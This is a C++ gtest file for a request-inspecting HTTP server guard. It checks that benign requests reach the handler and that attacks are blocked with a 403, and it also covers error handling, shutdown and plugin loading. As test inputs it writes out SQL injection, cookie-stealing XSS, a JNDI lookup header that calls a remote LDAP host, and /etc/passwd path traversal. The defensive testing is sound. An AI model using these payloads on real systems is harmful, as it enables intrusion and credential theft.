// fnguard::http::Serve: a real server on an ephemeral port, driven with
// cpp-httplib's client; and the container-http example binary under SIGTERM.
#include <fcntl.h>
#include <httplib.h>
#include <poll.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <fstream>
#include <future>
#include <mutex>
#include <optional>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "fnguard/guard.h"
#include "fnguard/http.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace fnguard::http {
namespace {

using ::testing::HasSubstr;

constexpr std::string_view kBlockPolicy = R"(version: 1
mode: block
fail_mode: open
inspection:
  detectors: [sqli, xss, cmdi, path_traversal, jndi]
block_response:
  status: 403
  body: '{"message":"Forbidden"}'
)";

// Serve() on a background thread, with a handler that records what it saw.
class ServerFixture : public ::testing::Test {
 protected:
  void SetUp() override {
    auto g = Guard::FromString(kBlockPolicy, "serve-test.yaml");
    ASSERT_TRUE(g.ok()) << g.status().ToString();
    guard_ = std::move(g).value();
    std::promise<int> bound;
    std::future<int> port = bound.get_future();
    ServeOptions options;
    options.host = "127.0.0.1";
    options.port = 0;
    options.handle_signals = false;
    options.worker_threads = 4;
    options.on_listening = [&bound](int p) { bound.set_value(p); };
    server_ = std::thread([this, options] {
      exit_code_ = Serve(
          *guard_, [this](const Request& req) { return Handle(req); }, options);
    });
    ASSERT_EQ(port.wait_for(std::chrono::seconds(10)), std::future_status::ready);
    port_ = port.get();
    ASSERT_GT(port_, 0);
  }

  void TearDown() override {
    Shutdown();
    if (server_.joinable()) server_.join();
    EXPECT_EQ(exit_code_.load(), 0);
  }

  Response Handle(const Request& req) {
    std::unique_lock<std::mutex> lock(mu_);
    ++calls_;
    last_ = req;
    if (req.path == "/boom") throw std::runtime_error("handler exploded");
    if (req.path == "/bad-status") return Response{42, {}, "?"};
    if (req.path == "/slow") {
      lock.unlock();
      std::this_thread::sleep_for(std::chrono::milliseconds(300));
      lock.lock();
    }
    return Response{200,
                    {{"content-type", "application/json"}, {"x-handled-by", "unit"}},
                    "{\"path\":\"" + req.path + "\"}"};
  }

  httplib::Client Client() {
    httplib::Client client("127.0.0.1", port_);
    client.set_connection_timeout(5, 0);
    client.set_read_timeout(10, 0);
    return client;
  }

  int calls() {
    std::lock_guard<std::mutex> lock(mu_);
    return calls_;
  }
  Request last() {
    std::lock_guard<std::mutex> lock(mu_);
    return last_;
  }

  std::unique_ptr<Guard> guard_;
  std::thread server_;
  std::atomic<int> exit_code_{-1};
  int port_ = 0;
  std::mutex mu_;
  int calls_ = 0;
  Request last_;
};

TEST_F(ServerFixture, BenignRequestGetsTheHandlersAnswer) {
  auto client = Client();
  httplib::Headers headers = {{"X-Custom", "one"}, {"Cookie", "a=1; b=2"}};
  auto res = client.Post("/items/7?color=blue&size=m", headers, R"({"qty":3})", "application/json");
  ASSERT_TRUE(res) << httplib::to_string(res.error());
  EXPECT_EQ(res->status, 200);
  EXPECT_EQ(res->body, R"({"path":"/items/7"})");
  EXPECT_EQ(res->get_header_value("Content-Type"), "application/json");
  EXPECT_EQ(res->get_header_value("X-Handled-By"), "unit");
  ASSERT_EQ(calls(), 1);
  Request seen = last();
  EXPECT_EQ(seen.method, "POST");
  EXPECT_EQ(seen.path, "/items/7");
  EXPECT_EQ(seen.query, "color=blue&size=m");
  EXPECT_EQ(seen.body, R"({"qty":3})");
  EXPECT_EQ(seen.header("x-custom"), "one");
  EXPECT_EQ(seen.header("COOKIE"), "a=1; b=2");
  EXPECT_EQ(seen.header("REMOTE_ADDR"), "");  // the server's own bookkeeping is not passed on
  EXPECT_EQ(seen.remote_addr, "127.0.0.1");
}

TEST_F(ServerFixture, SqlInjectionInQueryIsBlockedBeforeTheHandler) {
  auto client = Client();
  auto res =
      client.Get("/users?id=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--");
  ASSERT_TRUE(res) << httplib::to_string(res.error());
  EXPECT_EQ(res->status, 403);
  EXPECT_EQ(res->body, R"({"message":"Forbidden"})");
  EXPECT_EQ(calls(), 0);
}

TEST_F(ServerFixture, XssInJsonBodyIsBlocked) {
  auto client = Client();
  auto res = client.Post("/comments", R"({"text":"nice <script>alert(document.cookie)</script>"})",
                         "application/json");
  ASSERT_TRUE(res) << httplib::to_string(res.error());
  EXPECT_EQ(res->status, 403);
  EXPECT_EQ(calls(), 0);
}

TEST_F(ServerFixture, InjectionInAHeaderIsBlocked) {
  auto client = Client();
  httplib::Headers headers = {{"X-Api-Version", "${jndi:ldap://203.0.113.9:1389/Exploit}"}};
  auto res = client.Get("/status", headers);
  ASSERT_TRUE(res) << httplib::to_string(res.error());
  EXPECT_EQ(res->status, 403);
  EXPECT_EQ(calls(), 0);
}

TEST_F(ServerFixture, HandlerExceptionIs500AndTheServerKeepsServing) {
  auto client = Client();
  auto boom = client.Get("/boom");
  ASSERT_TRUE(boom) << httplib::to_string(boom.error());
  EXPECT_EQ(boom->status, 500);
  EXPECT_EQ(boom->get_header_value("Content-Type"), "application/json");
  EXPECT_THAT(boom->body, HasSubstr("Internal Server Error"));
  EXPECT_THAT(boom->body, ::testing::Not(HasSubstr("exploded")));  // no internals leak
  auto bad_status = client.Get("/bad-status");
  ASSERT_TRUE(bad_status) << httplib::to_string(bad_status.error());
  EXPECT_EQ(bad_status->status, 500);
  auto after = client.Get("/fine");
  ASSERT_TRUE(after) << httplib::to_string(after.error());
  EXPECT_EQ(after->status, 200);
  EXPECT_EQ(calls(), 3);
}

TEST_F(ServerFixture, BinaryBodyReachesTheHandlerUnchanged) {
  auto client = Client();
  std::string binary("\x89PNG\r\n\x1a\n\xff\xfe\x00\x01", 12);
  auto res = client.Put("/upload", binary, "application/octet-stream");
  ASSERT_TRUE(res) << httplib::to_string(res.error());
  EXPECT_EQ(res->status, 200);
  EXPECT_EQ(last().body, binary);
}

TEST_F(ServerFixture, ShutdownLetsTheRequestInFlightFinish) {
  auto slow = std::async(std::launch::async, [this] {
    auto client = Client();
    auto res = client.Get("/slow");
    return res ? res->status : -1;
  });
  auto until = std::chrono::steady_clock::now() + std::chrono::seconds(10);
  while (calls() == 0 && std::chrono::steady_clock::now() < until) {
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  ASSERT_EQ(calls(), 1);
  Shutdown();
  EXPECT_EQ(slow.get(), 200);
  server_.join();
  EXPECT_EQ(exit_code_.load(), 0);
  auto refused = Client().Get("/after");
  EXPECT_FALSE(refused);  // no longer accepting
}

TEST_F(ServerFixture, SecondServeInTheSameProcessIsRefused) {
  ServeOptions options;
  options.host = "127.0.0.1";
  options.port = 0;
  options.handle_signals = false;
  EXPECT_EQ(Serve(
                *guard_, [](const Request&) { return Response{}; }, options),
            1);
}

TEST_F(ServerFixture, TheServerRunsInThePluginLoadedFromTheBuildTree) {
  auto res = Client().Get("/ping");
  ASSERT_TRUE(res) << httplib::to_string(res.error());
  EXPECT_EQ(res->status, 200);
  std::ifstream maps("/proc/self/maps");
  std::string line, plugin_path;
  while (std::getline(maps, line)) {
    if (line.find("/libfnguard_http.so") != std::string::npos) {
      plugin_path = line.substr(line.find('/'));
      break;
    }
  }
  // This program links fnguard statically: the plugin comes from its own
  // directory (the copy next to the test programs).
  EXPECT_EQ(plugin_path, std::string(FNGUARD_BINARY_DIR) + "/tests/libfnguard_http.so");
}

// Serve() with FNGUARD_HTTP_PLUGIN set to `plugin`, in a fresh process (the
// plugin is loaded once per process): its exit code.
int ServeWithPlugin(const std::string& plugin) {
  setenv("FNGUARD_HTTP_PLUGIN", plugin.c_str(), 1);
  auto g = Guard::FromString(kBlockPolicy, "serve-test.yaml");
  if (!g.ok()) return 99;
  ServeOptions options;
  options.host = "127.0.0.1";
  options.port = 0;
  options.handle_signals = false;
  options.on_listening = [](int) { std::_Exit(98); };  // must never listen
  return Serve(
      **g, [](const Request&) { return Response{}; }, options);
}

TEST(ServePluginTest, MissingPluginIsOneClearErrorAndExitCodeOne) {
  GTEST_FLAG_SET(death_test_style, "threadsafe");
  EXPECT_EXIT(std::exit(ServeWithPlugin("/nonexistent/dir/libfnguard_http.so")),
              ::testing::ExitedWithCode(1),
              "fnguard: could not load the HTTP server plugin libfnguard_http.so: "
              "/nonexistent/dir/libfnguard_http.so: cannot open shared object file");
}

TEST(ServePluginTest, AFileThatIsNotThePluginIsRefusedWithoutACrash) {
  GTEST_FLAG_SET(death_test_style, "threadsafe");
  // Written again by the child the death test starts: a fixed path.
  const std::string not_elf = std::string(FNGUARD_BINARY_DIR) + "/tests/not-a-plugin.so";
  std::ofstream(not_elf) << "not a shared object\n";
  EXPECT_EXIT(std::exit(ServeWithPlugin(not_elf)), ::testing::ExitedWithCode(1),
              "could not load the HTTP server plugin libfnguard_http.so: .*not-a-plugin.so");
  // A real shared object without the entry point (zlib, which every build has).
  EXPECT_EXIT(std::exit(ServeWithPlugin("libz.so.1")), ::testing::ExitedWithCode(1),
              "could not load the HTTP server plugin libfnguard_http.so: libz.so.1 has no "
              "fnguard_http_plugin");
  unlink(not_elf.c_str());
}

TEST(ServeReportingTest, BlockedRequestIsReportedWithItsTraceId) {
  std::string text(kBlockPolicy);
  text += "reporting:\n  stdout: json\n";
  auto g = Guard::FromString(text, "serve-report.yaml");
  ASSERT_TRUE(g.ok()) << g.status().ToString();
  std::promise<int> bound;
  std::future<int> port = bound.get_future();
  ServeOptions options;
  options.host = "127.0.0.1";
  options.port = 0;
  options.handle_signals = false;
  options.on_listening = [&bound](int p) { bound.set_value(p); };
  ::testing::internal::CaptureStdout();
  int exit_code = -1;
  std::thread server([&] {
    exit_code = Serve(
        **g,
        [](const Request&) {
          return Response{200, {}, "ran"};
        },
        options);
  });
  std::optional<httplib::Result> res;
  if (port.wait_for(std::chrono::seconds(10)) == std::future_status::ready) {
    httplib::Client client("127.0.0.1", port.get());
    client.set_read_timeout(10, 0);
    httplib::Headers headers = {{"X-Amzn-Trace-Id", "Root=1-65a1b2c3-00112233445566778899aabb"}};
    res = client.Get("/files?name=..%2F..%2F..%2Fetc%2Fpasswd", headers);
  }
  Shutdown();
  server.join();
  std::string out = ::testing::internal::GetCapturedStdout();
  ASSERT_TRUE(res.has_value() && *res);
  EXPECT_EQ((*res)->status, 403);
  EXPECT_EQ(exit_code, 0);
  EXPECT_THAT(out, HasSubstr("\"trace_id\":\"Root=1-65a1b2c3-00112233445566778899aabb\""));
  EXPECT_THAT(out, HasSubstr("path_traversal"));
  EXPECT_THAT(out, HasSubstr("\"event_kind\":\"apigw-v2\""));
}

TEST(ServeOptionsTest, PortComesFromTheEnvironment) {
  setenv("PORT", "9123", 1);
  EXPECT_EQ(ServeOptions{}.port, 9123);
  setenv("PORT", "not-a-port", 1);
  EXPECT_EQ(ServeOptions{}.port, 8080);
  unsetenv("PORT");
  EXPECT_EQ(ServeOptions{}.port, 8080);
}

// ---- The container-http example, as a real process. ----

struct ChildProcess {
  pid_t pid = -1;
  int stderr_fd = -1;
};

// Reads the child's stderr until "listening on HOST:PORT"; returns the port.
std::optional<int> WaitForListening(int fd, std::chrono::milliseconds timeout) {
  std::string buffer;
  auto end = std::chrono::steady_clock::now() + timeout;
  while (std::chrono::steady_clock::now() < end) {
    pollfd p{fd, POLLIN, 0};
    if (poll(&p, 1, 100) <= 0) continue;
    char chunk[512];
    ssize_t n = read(fd, chunk, sizeof(chunk));
    if (n <= 0) return std::nullopt;
    buffer.append(chunk, static_cast<size_t>(n));
    size_t at = buffer.find("listening on ");
    if (at == std::string::npos) continue;
    size_t eol = buffer.find('\n', at);
    if (eol == std::string::npos) continue;
    std::string line = buffer.substr(at, eol - at);
    size_t colon = line.rfind(':');
    if (colon == std::string::npos) return std::nullopt;
    return std::stoi(line.substr(colon + 1));
  }
  return std::nullopt;
}

std::optional<int> WaitForExit(pid_t pid, std::chrono::milliseconds timeout) {
  auto end = std::chrono::steady_clock::now() + timeout;
  while (std::chrono::steady_clock::now() < end) {
    int status = 0;
    pid_t r = waitpid(pid, &status, WNOHANG);
    if (r == pid) return status;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  return std::nullopt;
}

TEST(ContainerHttpExampleTest, ServesBlocksAndStopsCleanlyOnSigterm) {
  const std::string binary =
      std::string(FNGUARD_BINARY_DIR) + "/examples/container-http/container_http_example";
  struct stat st;
  if (stat(binary.c_str(), &st) != 0) GTEST_SKIP() << binary << " is not built";
  const std::string policy =
      std::string(FNGUARD_SOURCE_DIR) + "/examples/container-http/policy.yaml";

  int err_pipe[2];
  ASSERT_EQ(pipe(err_pipe), 0);
  pid_t pid = fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    dup2(err_pipe[1], STDERR_FILENO);
    int devnull = open("/dev/null", O_WRONLY);
    if (devnull >= 0) dup2(devnull, STDOUT_FILENO);
    close(err_pipe[0]);
    close(err_pipe[1]);
    setenv("PORT", "0", 1);
    setenv("FNGUARD_POLICY", policy.c_str(), 1);
    execl(binary.c_str(), binary.c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  close(err_pipe[1]);
  std::optional<int> port = WaitForListening(err_pipe[0], std::chrono::seconds(15));
  if (!port) {
    kill(pid, SIGKILL);
    waitpid(pid, nullptr, 0);
    close(err_pipe[0]);
    FAIL() << "the example never reported its port";
  }

  httplib::Client client("127.0.0.1", *port);
  client.set_read_timeout(10, 0);
  auto greet = client.Get("/greet?name=Ada");
  auto attack = client.Get("/greet?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
  ASSERT_EQ(kill(pid, SIGTERM), 0);
  std::optional<int> status = WaitForExit(pid, std::chrono::seconds(15));
  if (!status) {
    kill(pid, SIGKILL);
    waitpid(pid, nullptr, 0);
  }
  close(err_pipe[0]);

  ASSERT_TRUE(greet) << httplib::to_string(greet.error());
  EXPECT_EQ(greet->status, 200);
  EXPECT_EQ(greet->body, R"({"message":"hello, Ada"})");
  ASSERT_TRUE(attack) << httplib::to_string(attack.error());
  EXPECT_EQ(attack->status, 403);
  ASSERT_TRUE(status.has_value()) << "the example did not stop after SIGTERM";
  ASSERT_TRUE(WIFEXITED(*status));
  EXPECT_EQ(WEXITSTATUS(*status), 0);
}

}  // namespace
}  // namespace fnguard::http
